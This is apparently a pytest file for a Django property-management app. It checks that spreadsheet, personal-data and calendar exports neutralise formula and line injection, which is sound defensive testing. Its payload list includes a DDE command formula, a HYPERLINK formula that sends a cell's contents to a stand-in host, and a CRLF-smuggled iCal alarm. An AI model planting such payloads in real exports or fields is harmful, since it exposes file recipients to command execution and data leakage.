"""Formulas typed into fields: no file that is handed out holds one (failure mode 17)."""

import io
import json
import re
import zipfile
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from icalendar import Calendar
from openpyxl import load_workbook

from propdesk.core import person_export, persons, spreadsheets
from propdesk.core.models import Case
from propdesk.core.person_export import Asked
from propdesk.core.roles import Role
from propdesk.desk.calendar import workflow
from propdesk.localstack.paths import BASE_DIR
from tests.factories import ShiftFactory
from tests.incidents.journey import House

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\n=1+1",
    '=HYPERLINK("https://example.invalid/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://example.invalid")',
    "{=1+1}",
    "https://example.invalid/",
)
WRITERS = re.compile(
    r"\bxlsxwriter\b|\bWorkbook\(|\bcsv\.(?:Dict)?[wW]riter\b|application/vnd.ms-excel"
)


def test_sheet_holds_every_payload_as_marked_text():
    with spreadsheets.handed_on() as file, spreadsheets.book_in(file) as book:
        book.sheet("x", [("=1+1", 9)], [[p] for p in (*PAYLOADS, "x")], most=11, more="=2+2")
    with file:
        raw = file.read()

    cells = [row[0] for row in load_workbook(io.BytesIO(raw)).worksheets[0].iter_rows()]
    assert [cell.value for cell in cells] == ["=1+1", *PAYLOADS, "=2+2"]
    assert {(cell.data_type, cell.number_format) for cell in cells} == {("s", "@")}
    assert {cell.quotePrefix for cell in cells[1:]} == {True}
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        written = "".join(archive.read(name).decode() for name in archive.namelist())
    assert re.findall(r"<f[ >]|<hyperlink|externalLink", written) == []


def test_no_other_module_writes_tables():
    """``importing`` hands out an empty form, with headings of ours alone."""
    found = {
        path.relative_to(BASE_DIR).as_posix()
        for app in ("propdesk", "incidents", "lostfound", "emergencies")
        for path in (BASE_DIR / app).rglob("*.py")
        if WRITERS.search(path.read_text("utf-8"))
    }

    assert found == {"propdesk/core/spreadsheets.py", "propdesk/core/importing.py"}


@pytest.mark.django_db
def test_export_of_a_person_is_no_table_and_says_what_was_typed():
    house = House()
    complaint = house.new()
    name = PAYLOADS[6]
    persons.change(
        complaint.guest, persons.Guest(name=name, phone="13912340001"), by=house.dm, reason="=1+1"
    )
    asked = Asked(phone="13912340001", purpose="=1+1")

    given = person_export.give(house.prop, asked, by=house.pm, readable=Case.objects.all())

    with zipfile.ZipFile(io.BytesIO(given.data)) as archive:
        files = archive.namelist()
        said = json.loads(archive.read("personal-data.json"))
    assert {name.rpartition(".")[2] for name in files} == {"json", "txt"}
    assert said["records"][0]["stored"]["姓名"] == name


@pytest.mark.django_db
def test_calendar_holds_no_line_of_its_reader(client):
    """The names a feed shows are typed too: they begin no line of their own."""
    house = House()
    house.prop.name = "=1+1\r\nATTACH:https://example.invalid/\r\nBEGIN:VALARM"
    house.prop.save()
    starts = timezone.now()
    ShiftFactory(
        property=house.prop,
        user=house.dm,
        role=Role.DUTY_MANAGER,
        starts_at=starts,
        ends_at=starts + timedelta(hours=8),
        label="=1+1",
    )
    token = workflow.make_feed(house.prop, by=house.dm)[1]

    body = client.get(reverse("calendar_feed", args=[token])).content

    calendar = Calendar.from_ical(body)
    assert len(calendar.walk("VEVENT")) == 1
    assert calendar.walk("VALARM") == []
    assert re.findall(rb"(?m)^(?:ATTACH|BEGIN:VALARM|[=+@-])", body) == []
